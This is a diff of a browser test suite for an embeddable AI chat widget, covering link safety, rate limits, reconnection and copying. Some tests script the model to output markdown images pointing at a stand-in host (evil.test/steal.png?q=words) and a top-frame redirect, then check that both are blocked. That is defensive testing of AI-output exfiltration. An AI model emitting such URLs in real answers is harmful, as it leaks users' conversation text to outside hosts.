@@ -2,43 +2,27 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
-from dataclasses import dataclass
-
 import pytest
 from playwright.sync_api import BrowserContext
 
-from tests.browser.embed_world import World
+from tests.browser.embed_world import Told
 from tests.browser.host_visit import FrameChat, HostVisit
-from tests.browser.two_models import UPSTREAMS, says
-from tests.scripted_server import ScriptedServer
+from tests.browser.two_models import says
 
 pytestmark = pytest.mark.browser
 LAUNCHER_NAME = "document.querySelector('parley-embed').shadowRoot.querySelector('.launcher').ariaLabel"
 
 
-@dataclass
-class Told:
-    """A world whose model says what the test wants."""
-
-    world: World
-    model: ScriptedServer
-
-    def visit(self, context: BrowserContext, embed: str = "acme") -> tuple[HostVisit, FrameChat]:
-        """A shop with the chat open."""
-        visit = self.world.visit(context, embed=embed)
-        return visit, visit.open()
+@pytest.fixture(scope="module", autouse=True)
+def profile(told: Told) -> None:
+    """One embed."""
+    told.world.profile("acme", greeting="Hello!", starters=("What can you do?",), title="Help")
 
 
-@pytest.fixture(scope="module")
-def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Told]:
-    """Parley with a model that plays scripts."""
-    folder = tmp_path_factory.mktemp("told")
-    with ScriptedServer() as house, ScriptedServer() as study:
-        (folder / "upstreams.toml").write_text(UPSTREAMS.format(house=house.url, study=study.url))
-        with World(folder) as world:
-            world.profile("acme", greeting="Hello!", starters=("What can you do?",), title="Help")
-            yield Told(world, house)
+def opened(context: BrowserContext, told: Told, embed: str = "acme") -> tuple[HostVisit, FrameChat]:
+    """A shop with the chat open."""
+    visit = told.world.visit(context, embed=embed)
+    return visit, visit.open()
 
 
 def menu(chat: FrameChat, action: str) -> None:
@@ -50,14 +34,14 @@ def menu(chat: FrameChat, action: str) -> None:
 def test_s18_links_open_tabs_and_the_frame_cannot_lead_the_host_away(context: BrowserContext, told: Told) -> None:
     told.model.play(says(f"See [the shop]({told.world.origin('blog.test')}/there)."))
     told.world.put("blog.test", "/there", "<p id=there>There</p>")
-    visit, chat = told.visit(context)
+    visit, chat = opened(context, told)
     chat.answered("Where?")
     link = chat.frame.locator("[data-answer] a").first
     assert link.get_attribute("rel") == "noopener noreferrer nofollow ugc"
-    with context.expect_page() as opened:
+    with context.expect_page() as tab:
         link.click()
-    opened.value.wait_for_load_state()
-    assert opened.value.evaluate("() => [opener, document.referrer]") == [None, ""]
+    tab.value.wait_for_load_state()
+    assert tab.value.evaluate("() => [opener, document.referrer]") == [None, ""]
     refused = (
         "() => { try { top.location = 'https://evil.test/'; return 'led away' } catch (error) { return error.name } }"
     )
@@ -70,7 +54,7 @@ def test_s19_a_picture_elsewhere_is_a_link_and_nothing_is_fetched(context: Brows
     evil = told.world.origin("evil.test")
     told.model.play(says(f"![secret]({evil}/steal.png?q=words) and ![]({evil}/two.png) <img src={evil}/three.png>"))
     told.world.forget()
-    visit, chat = told.visit(context)
+    visit, chat = opened(context, told)
     chat.answered("Show me")
     links = chat.frame.locator("[data-answer] a.picture-link")
     assert [link.get_attribute("href") for link in links.all()] == [f"{evil}/steal.png?q=words", f"{evil}/two.png"]
@@ -83,7 +67,7 @@ def test_s19_a_picture_elsewhere_is_a_link_and_nothing_is_fetched(context: Brows
 
 def test_nothing_is_kept_or_asked_before_the_first_question(context: BrowserContext, told: Told) -> None:
     told.world.forget()
-    _, chat = told.visit(context)
+    _, chat = opened(context, told)
     chat.page.wait_for_timeout(800)
     asked = [seen.path for seen in told.world.at_chat()]
     assert not [path for path in asked if path.startswith(("/embed/api", "/ws"))]
@@ -94,7 +78,7 @@ def test_nothing_is_kept_or_asked_before_the_first_question(context: BrowserCont
 
 def test_a_starter_asks_and_goes_and_comes_back_with_a_new_chat(context: BrowserContext, told: Told) -> None:
     told.model.play(says("Much."))
-    visit, chat = told.visit(context)
+    visit, chat = opened(context, told)
     starters = chat.frame.locator(".embed-starters")
     assert starters.is_visible()
     starters.get_by_role("button").click()
@@ -111,7 +95,7 @@ def test_a_starter_asks_and_goes_and_comes_back_with_a_new_chat(context: Browser
 
 def test_what_was_asked_goes_on_after_a_reload_and_the_draft_is_there(context: BrowserContext, told: Told) -> None:
     told.model.play(says("One.", "Two.", "Three.", pause_s=0.6))
-    visit, chat = told.visit(context)
+    visit, chat = opened(context, told)
     chat.ask("Count")
     chat.wait_until("() => document.querySelector('[data-answer]')?.text")
     chat.composer.fill("half a thought")
@@ -124,7 +108,7 @@ def test_what_was_asked_goes_on_after_a_reload_and_the_draft_is_there(context: B
 
 def test_enter_sends_shift_enter_does_not_and_stop_stops(context: BrowserContext, told: Told) -> None:
     told.model.play(says(*["word "] * 100, pause_s=0.2))
-    _, chat = told.visit(context)
+    _, chat = opened(context, told)
     chat.composer.fill("a")
     chat.composer.press("Shift+Enter")
     chat.composer.type("b")
@@ -149,7 +133,7 @@ def test_enter_sends_shift_enter_does_not_and_stop_stops(context: BrowserContext
 def test_too_many_questions_are_told_in_place_and_the_text_is_kept(context: BrowserContext, told: Told) -> None:
     told.world.profile("few", per_visitor_minute=1)
     told.model.play(says("Yes."))
-    visit, chat = told.visit(context, embed="few")
+    visit, chat = opened(context, told, "few")
     visit.page.evaluate("() => document.addEventListener('parley:error', ({detail}) => window.problem = detail.code)")
     chat.answered("One?")
     chat.ask("Two?")
@@ -161,7 +145,7 @@ def test_too_many_questions_are_told_in_place_and_the_text_is_kept(context: Brow
 
 def test_without_a_network_the_question_waits_and_goes_out_once(context: BrowserContext, told: Told) -> None:
     told.model.play(says("Here."))
-    _, chat = told.visit(context)
+    _, chat = opened(context, told)
     chat.answered("First?")
     told.world.front.cut_off = True
     told.world.front.drop()
@@ -177,7 +161,7 @@ def test_where_sockets_are_blocked_plain_requests_do(context: BrowserContext, to
     told.world.front.blocks_websockets = True
     try:
         told.model.play(says("By ", "plain ", "requests.", pause_s=0.2))
-        _, chat = told.visit(context)
+        _, chat = opened(context, told)
         assert chat.answered("How?") == "By plain requests."
         assert chat.frame.evaluate("() => document.documentElement.dataset.connection") == "http"
         told.model.play(says(*["word "] * 100, pause_s=0.2))
@@ -192,7 +176,7 @@ def test_where_sockets_are_blocked_plain_requests_do(context: BrowserContext, to
 
 def test_answers_that_came_while_the_panel_was_closed_are_counted(context: BrowserContext, told: Told) -> None:
     told.model.play(says("One ", "two ", "three.", pause_s=0.5))
-    visit, chat = told.visit(context)
+    visit, chat = opened(context, told)
     visit.page.evaluate("() => { window.told = []; Parley.on('message', (one) => window.told.push(one)) }")
     chat.ask("Count")
     chat.wait_until("() => document.querySelector('[data-answer]')?.text")
@@ -207,11 +191,11 @@ def test_answers_that_came_while_the_panel_was_closed_are_counted(context: Brows
 
 def test_the_conversation_can_be_taken_to_a_page_of_its_own(context: BrowserContext, told: Told) -> None:
     told.model.play(says("Answer."))
-    _, chat = told.visit(context)
+    _, chat = opened(context, told)
     chat.answered("Question?")
-    with context.expect_page() as opened:
+    with context.expect_page() as tab:
         menu(chat, "away")
-    page = opened.value
+    page = tab.value
     page.wait_for_url("**/e/**")
     assert page.evaluate("() => opener") is None
     page.get_by_role("button").first.click()
@@ -267,7 +251,7 @@ def test_the_socket_rests_after_three_minutes_and_is_taken_up_again(context: Bro
 
 def test_that_something_was_copied_is_said_once(context: BrowserContext, told: Told) -> None:
     told.model.play(says("Much."))
-    _, chat = told.visit(context)
+    _, chat = opened(context, told)
     chat.answered("What?")
     menu(chat, "copy")
     told_in = "() => [...document.querySelectorAll('[role=status]')].filter(one => /copied/i.test(one.textContent))"
